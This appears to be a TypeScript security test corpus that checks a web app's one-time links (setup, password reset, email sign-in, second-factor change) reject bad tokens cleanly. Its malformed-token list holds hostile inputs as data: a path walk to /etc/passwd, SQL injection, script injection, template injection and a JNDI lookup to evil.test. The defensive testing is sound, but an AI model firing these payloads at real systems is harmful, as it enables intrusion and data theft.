/**
 * One-time links: setup (on the server with an empty database), choose-a-password, email
 * sign-in, second-factor change links and the grants they lead to. Malformed, unknown, used,
 * expired, over-long and wrong-purpose tokens get a page that says what is wrong (never the
 * form the link would open, never a 5xx, never a session), and the actions behind the links
 * refuse them clearly. A link page is a page view, so it may answer 200 with the explanation;
 * what must never happen is the form, a session, or a server error.
 */
import { formAction, page, type CorpusArea, type Expectation, type HostileCase } from '../corpus';

type Kind = { name: string; path: string; server?: 'fresh'; cookie?: string; form: string };
const KINDS: Kind[] = [
  { name: 'setup', path: '/setup/', server: 'fresh', form: 'This account manages users' },
  { name: 'password', path: '/password/', form: 'Your username is' },
  { name: 'email sign-in', path: '/sign-in/email/', form: 'Press the button to sign in' },
  { name: 'second-factor change', path: '/device/', cookie: '{{s.anna}}', form: 'Next you scan a QR code' },
];

const INVALID = {
  setup: 'This link is not valid',
  password: 'This link is not valid',
  'email sign-in': 'This link is not valid',
  'second-factor change': 'This link is not valid',
} as const;
const USED = 'This link has already been used';
const EXPIRED = 'This link has expired';

/** Path segments that are no token (as sent on the wire). */
const MALFORMED: [string, string][] = [
  ['one character', 'a'],
  ['42 characters', 'x'.repeat(42)],
  ['44 characters', 'x'.repeat(44)],
  ['43 characters with a plus', `${'a'.repeat(42)}+`],
  ['43 characters with a dot', `${'a'.repeat(42)}.`],
  ['43 characters with an equals sign', `${'a'.repeat(42)}=`],
  ['43 characters with an encoded space', `${'a'.repeat(40)}%20`],
  ['an encoded NUL', `%00${'a'.repeat(40)}`],
  ['encoded dots', '%2e%2e'],
  ['an encoded path walk', '..%2f..%2f..%2fetc%2fpasswd'],
  ['an encoded line separator', `%E2%80%A8${'a'.repeat(40)}`],
  ['an invalid escape', '%zz'],
  ['a truncated UTF-8 escape', `%E2%80${'a'.repeat(40)}`],
  ['an overlong UTF-8 escape', `%c0%af${'a'.repeat(40)}`],
  ['raw UTF-8 bytes', '\xd0\xb0'.repeat(22)],
  ['1,000 characters', 'a'.repeat(1000)],
  ['20,000 characters', 'b'.repeat(20_000)],
  ['SQL', "'%20OR%20'1'%3D'1"],
  ['markup', '%3Cscript%3Ealert(1)%3C%2Fscript%3E'],
  ['a template expression', '%7B%7B7*7%7D%7D'],
  ['a JNDI lookup', '$%7Bjndi:ldap:%2F%2Fevil.test%2Fa%7D'],
  ['a well-formed unknown token', 'Zm9vYmFyYmF6cXV4cXV1eGNvcmdlZ3JhdWx0Z2FycGx5'.slice(0, 43)],
];

/** What an unusable link must show, and what it must not. */
const problem = (kind: Kind, title: string): Expectation => ({
  statusIn: [200, 400, 404, 410],
  bodyIncludes: [title],
  bodyExcludes: [kind.form],
  noSession: true,
});
/** Values the server may refuse or normalise before the page: an encoded "..", for one, is resolved by the router (a redirect within the portal). */
const noForm = (kind: Kind): Expectation => ({
  statusIn: [200, 303, 307, 308, 400, 404, 410, 414, 431],
  bodyExcludes: [kind.form],
  noSession: true,
  redirect: { withinAllowedHosts: true, optional: true },
});

const malformed: HostileCase[] = KINDS.flatMap((kind) =>
  MALFORMED.map(([name, token]): HostileCase => {
    const strict = /^[A-Za-z0-9_+.=-]+$/.test(token) && token.length <= 1000;
    return {
      name: `${kind.name} link: ${name}`,
      request: page(`${kind.path}${token}`, { cookie: kind.cookie, server: kind.server }),
      expect: strict ? problem(kind, INVALID[kind.name as keyof typeof INVALID]) : noForm(kind),
    };
  }),
);

const states: HostileCase[] = [
  { name: 'setup link: used', request: page('/setup/{{fresh.setup.used}}', { server: 'fresh' }), expect: problem(KINDS[0]!, USED) },
  { name: 'setup link: expired', request: page('/setup/{{fresh.setup.expired}}', { server: 'fresh' }), expect: problem(KINDS[0]!, EXPIRED) },
  {
    name: 'setup link: a password link instead',
    request: page('/setup/{{fresh.password}}', { server: 'fresh' }),
    expect: problem(KINDS[0]!, 'This link is not valid'),
  },
  {
    name: 'setup link: an email sign-in link instead',
    request: page('/setup/{{fresh.email}}', { server: 'fresh' }),
    expect: problem(KINDS[0]!, 'This link is not valid'),
  },
  {
    name: 'setup link: once an admin exists, even a valid one is over',
    request: page('/setup/{{link.setup}}'),
    expect: { statusIn: [200, 404, 410], bodyIncludes: ['Setup is complete'], bodyExcludes: ['This account manages users'], noSession: true },
  },
  { name: 'password link: used', request: page('/password/{{link.password.used}}'), expect: problem(KINDS[1]!, USED) },
  { name: 'password link: expired', request: page('/password/{{link.password.expired}}'), expect: problem(KINDS[1]!, EXPIRED) },
  { name: 'password link: an email sign-in link instead', request: page('/password/{{link.email}}'), expect: problem(KINDS[1]!, 'This link is not valid') },
  { name: 'password link: a second-factor link instead', request: page('/password/{{link.device}}'), expect: problem(KINDS[1]!, 'This link is not valid') },
  { name: 'password link: a setup link instead', request: page('/password/{{link.setup}}'), expect: problem(KINDS[1]!, 'This link is not valid') },
  { name: 'email sign-in link: used', request: page('/sign-in/email/{{link.email.used}}'), expect: problem(KINDS[2]!, USED) },
  { name: 'email sign-in link: expired', request: page('/sign-in/email/{{link.email.expired}}'), expect: problem(KINDS[2]!, EXPIRED) },
  {
    name: 'email sign-in link: a password link instead',
    request: page('/sign-in/email/{{link.password}}'),
    expect: problem(KINDS[2]!, 'This link is not valid'),
  },
  {
    name: 'email sign-in link: a second-factor link instead',
    request: page('/sign-in/email/{{link.device}}'),
    expect: problem(KINDS[2]!, 'This link is not valid'),
  },
  { name: 'second-factor link: used', request: page('/device/{{link.device.used}}', { cookie: '{{s.anna}}' }), expect: problem(KINDS[3]!, USED) },
  { name: 'second-factor link: expired', request: page('/device/{{link.device.expired}}', { cookie: '{{s.anna}}' }), expect: problem(KINDS[3]!, EXPIRED) },
  {
    name: 'second-factor link: another user’s',
    request: page('/device/{{link.device.boss}}', { cookie: '{{s.anna}}' }),
    expect: problem(KINDS[3]!, 'This link is for another account'),
  },
  {
    name: 'second-factor link: the right user in another browser',
    request: page('/device/{{link.device}}', { cookie: '{{s.anna}}' }),
    expect: problem(KINDS[3]!, 'Open this link in the browser where you asked for it'),
  },
  {
    name: 'second-factor link: a password link instead',
    request: page('/device/{{link.password}}', { cookie: '{{s.anna}}' }),
    expect: problem(KINDS[3]!, 'This link is not valid'),
  },
  {
    name: 'second-factor link: an email sign-in link instead',
    request: page('/device/{{link.email}}', { cookie: '{{s.anna}}' }),
    expect: problem(KINDS[3]!, 'This link is not valid'),
  },
  {
    name: 'second-factor link: opened without a session goes to sign-in first',
    request: page('/device/{{link.device}}'),
    expect: { statusIn: [303, 307], noSession: true, redirect: { withinAllowedHosts: true }, headers: { location: { includes: ['/sign-in'] } } },
  },
];

/** The actions behind the links, given a token they must refuse. */
const STRONG = 'tangerine glacier 4417 harbour';
const BAD_TOKENS: [string, string][] = [
  ['unknown', 'Zm9vYmFyYmF6cXV4cXV1eGNvcmdlZ3JhdWx0Z2FycGx'],
  ['malformed', "' OR '1'='1"],
  ['empty', ''],
  ['101 characters', 'c'.repeat(101)],
];
const actions: HostileCase[] = [
  ...[
    ...BAD_TOKENS,
    ['used', '{{link.password.used}}'],
    ['expired', '{{link.password.expired}}'],
    ['an email sign-in link', '{{link.email}}'],
    ['a setup link', '{{link.setup}}'],
  ].map(
    ([name, token]): HostileCase => ({
      name: `set-password action with a token that is ${name}`,
      request: formAction(`/password/${token || 'x'}`, 'setPasswordAction', [
        ['token', token!],
        ['password', STRONG],
        ['confirmPassword', STRONG],
      ]),
      expect: { refusal: true, noSession: true, headerAbsent: ['x-action-redirect'] },
    }),
  ),
  ...[
    ...BAD_TOKENS,
    ['used', '{{link.email.used}}'],
    ['expired', '{{link.email.expired}}'],
    ['a password link', '{{link.password}}'],
    ['a second-factor link', '{{link.device}}'],
  ].map(
    ([name, token]): HostileCase => ({
      name: `email sign-in action with a token that is ${name}`,
      request: formAction(`/sign-in/email/${token || 'x'}`, 'confirmEmailLinkAction', [['token', token!]]),
      expect: { refusal: true, noSession: true },
    }),
  ),
  ...[
    ...BAD_TOKENS,
    ['used', '{{fresh.setup.used}}'],
    ['expired', '{{fresh.setup.expired}}'],
    ['a password link', '{{fresh.password}}'],
    ['an email sign-in link', '{{fresh.email}}'],
  ].map(
    ([name, token]): HostileCase => ({
      name: `setup action with a token that is ${name}`,
      request: {
        ...formAction(`/setup/${token || 'x'}`, 'completeSetupAction', [
          ['token', token!],
          ['username', 'mallory'],
          ['email', 'mallory@example.test'],
          ['displayName', 'Mallory'],
          ['password', STRONG],
          ['confirmPassword', STRONG],
        ]),
        server: 'fresh',
      },
      expect: { refusal: true, noSession: true },
    }),
  ),
  ...[
    ...BAD_TOKENS,
    ['another user’s', '{{link.device.boss}}'],
    ['for another browser', '{{link.device}}'],
    ['used', '{{link.device.used}}'],
    ['expired', '{{link.device.expired}}'],
    ['a password link', '{{link.password}}'],
  ].map(
    ([name, token]): HostileCase => ({
      name: `second-factor link action with a token that is ${name}`,
      request: formAction(`/device/${token || 'x'}`, 'confirmFactorChangeLinkAction', [['token', token!]], {
        extraHeaders: [['Cookie', 'gatehouse_session={{s.anna}}']],
      }),
      expect: { refusal: true, noSession: true, headerAbsent: ['x-action-redirect'] },
    }),
  ),
];

/** Grants (what a confirmed second-factor link leads to): anything but a live grant shows no secret. */
const GRANTS: [string, string][] = [
  ['no grant', ''],
  ['a word', 'garbage'],
  ['a well-formed unknown grant', 'Zm9vYmFyYmF6cXV4cXV1eGNvcmdlZ3JhdWx0Z2FycGx'],
  ['a second-factor link instead', '{{link.device}}'],
  ['an email sign-in link instead', '{{link.email}}'],
  ['10,000 characters', 'g'.repeat(10_000)],
  ['an encoded NUL', '%00'],
  ['two grants', 'a&grant=b'],
];
const grants: HostileCase[] = GRANTS.flatMap(([name, grant]): HostileCase[] => [
  {
    name: `authenticator-app page with ${name}`,
    request: page(`/security/add/totp?grant=${grant}`, { cookie: '{{s.anna}}' }),
    expect: { statusIn: [200, 400, 403, 404, 410], bodyExcludes: ['data-testid="totp-secret"', 'data-testid="totp-qr"'], noSession: true },
  },
  {
    name: `security-key page with ${name}`,
    request: page(`/security/add/webauthn?grant=${grant}`, { cookie: '{{s.anna}}' }),
    expect: { statusIn: [200, 400, 403, 404, 410], noSession: true },
  },
]);

export const ONE_TIME_LINKS: CorpusArea = { area: 'one-time-links', title: 'one-time links', cases: [...malformed, ...states, ...actions, ...grants] };
